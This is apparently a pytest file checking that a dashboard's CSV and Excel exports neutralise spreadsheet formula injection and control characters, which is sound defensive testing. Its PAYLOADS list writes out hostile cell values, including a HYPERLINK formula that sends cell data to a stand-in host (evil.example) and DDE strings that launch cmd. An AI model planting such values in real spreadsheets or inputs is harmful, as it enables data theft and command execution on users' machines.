"""Exports are safe to open: every cell of every file that leaves the dashboard (the monthly report's Excel
annex, the CSV/XLSX downloads of the pages' tables, the audit trail) is checked, after unit names,
follow-up notes, audit targets and table cells were given text that a spreadsheet would run as a formula
(= + - @ tab CR at the start, also hidden behind a control character) or that XML cannot hold ("\\x07").
No cell is a formula, no text cell starts like one (the guard's apostrophe is in front), and the text is
still there for the reader."""

from __future__ import annotations

import csv
import datetime as dt
import io
import re

import openpyxl
import pandas as pd
import pytest
from sqlalchemy import update

import metrics
from domain.safe_text import FORMULA_STARTS
from reports import tables
from reports.content import build_content
from reports.workbook import build_workbook
from services import audit, followups, trail
from storage import frames, models
from storage.db import make_engine
from tests.access_helpers import NOW, actor, fast_hashing  # noqa: F401

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\x07=1+1",
    "\x1b\x07+1",
    "Xã\x07 Chuông\x0b kêu",
]
CONTROL = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f\ufffe\uffff]")
AS_OF = dt.datetime(2027, 1, 1, tzinfo=dt.timezone.utc)


def _is_number(text: str) -> bool:
    try:
        float(text.replace(",", ""))
        return True
    except ValueError:
        return False


def check_xlsx(data: bytes) -> list[str]:
    """Every text cell of every sheet; returns them (the caller looks for its payloads)."""
    wb = openpyxl.load_workbook(io.BytesIO(data))
    texts = []
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for c in row:
                assert c.data_type != "f", f"{ws.title}!{c.coordinate} is a formula: {c.value!r}"
                if isinstance(c.value, str):
                    assert not CONTROL.search(c.value), f"{ws.title}!{c.coordinate}: control character"
                    assert not c.value.startswith(FORMULA_STARTS), f"{ws.title}!{c.coordinate}: {c.value!r}"
                    texts.append(c.value)
    return texts


def check_csv(data: bytes) -> list[str]:
    text = data.decode("utf-8-sig")
    texts = []
    for i, row in enumerate(csv.reader(io.StringIO(text, newline=""))):
        for j, field in enumerate(row):
            shown = CONTROL.sub("", field)
            assert shown == field, f"row {i} column {j}: control character"
            if shown.startswith(FORMULA_STARTS):
                assert _is_number(shown), f"row {i} column {j}: {field!r}"
            texts.append(field)
    return texts


def _neutralised_in(texts: list[str], payload: str) -> bool:
    """The payload is there, shown as typed: control characters out, the apostrophe in front."""
    clean = CONTROL.sub("", payload)
    want = "'" + clean if clean.startswith(FORMULA_STARTS) else clean
    return any(want in t for t in texts)


# --- page downloads (reports/tables.py) --------------------------------------------------------------


def test_table_downloads_guard_every_cell_header_title_and_note():
    frame = pd.DataFrame({
        "Đơn vị": PAYLOADS,
        PAYLOADS[0]: range(len(PAYLOADS)),  # a column named like a formula
        "Tỷ lệ": [0.5, -0.25, None, float("nan"), 1.0, 0.0, 0.75, -1.0, 0.1],
        "Ghi chú \x07": [f"{p} (ghi chú)" for p in reversed(PAYLOADS)],
        "Số âm": [-5, -6, -7, -8, -9, -10, -11, -12, -13],
    })
    xlsx = tables.to_xlsx(frame, "Sheet\x07/1", percent_columns=["Tỷ lệ"], integer_columns=["Số âm"], title="=Tiêu đề\x07")
    xlsx_texts = check_xlsx(xlsx)
    csv_texts = check_csv(tables.to_csv(frame))
    for payload in PAYLOADS:
        assert _neutralised_in(xlsx_texts, payload) and _neutralised_in(csv_texts, payload), payload
    # Negative numbers stay numbers (not text with an apostrophe).
    ws = openpyxl.load_workbook(io.BytesIO(xlsx)).active
    assert -5 in [c.value for c in ws["E"]]


# --- the audit trail (services/trail.py -> services/audit.py) ----------------------------------------


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_the_audit_export_guards_every_cell(engine, fmt):
    for k, payload in enumerate(PAYLOADS):
        audit.record(engine, payload.replace("\x00", ""), "export", payload, "ok", {"note": payload, "n": -k}, now=NOW)
    data = trail.export(engine, actor("admin"), fmt, "vi", now=NOW)
    texts = check_xlsx(data) if fmt == "xlsx" else check_csv(data)
    for payload in PAYLOADS:
        assert _neutralised_in(texts, payload), payload


# --- the monthly report's Excel annex (reports/pack.py) -------------------------------------------------


def test_the_report_annex_guards_unit_names_and_follow_up_notes(sample_copy_url):
    engine = make_engine(sample_copy_url)
    try:
        units = frames.load_units(engine)
        communes = sorted(units.loc[units["level"] == "commune", "code"])
        departments = sorted(units.loc[units["level"] == "department", "code"])
        with engine.begin() as conn:
            for k, code in enumerate(communes + departments):
                payload = PAYLOADS[k % len(PAYLOADS)]
                conn.execute(update(models.Unit).where(models.Unit.code == code)
                             .values(name_vi=f"{payload} {k}", name_en=f"{payload} #{k}"))
        standing = actor("standing", name="van_phong_thuong_truc")
        for k, code in enumerate(communes):
            followups.add_followup(engine, standing, code, "2026-10", "notified", note=f"{PAYLOADS[k % len(PAYLOADS)]} ghi chú",
                                   now=NOW)
        inputs = metrics.Inputs(**frames.metric_frames(engine))
        follow = followups.current(engine, standing, "2026-10")
        for lang in ("vi", "en"):
            # The pack's Excel annex exactly as reports.pack.build_pack makes it (without the Word draft).
            content = build_content(inputs, "2026-10", lang, followups=follow, synthetic=True, as_of=AS_OF)
            texts = check_xlsx(build_workbook(content))
            for payload in PAYLOADS:
                assert _neutralised_in(texts, payload), (lang, payload)
    finally:
        engine.dispose()
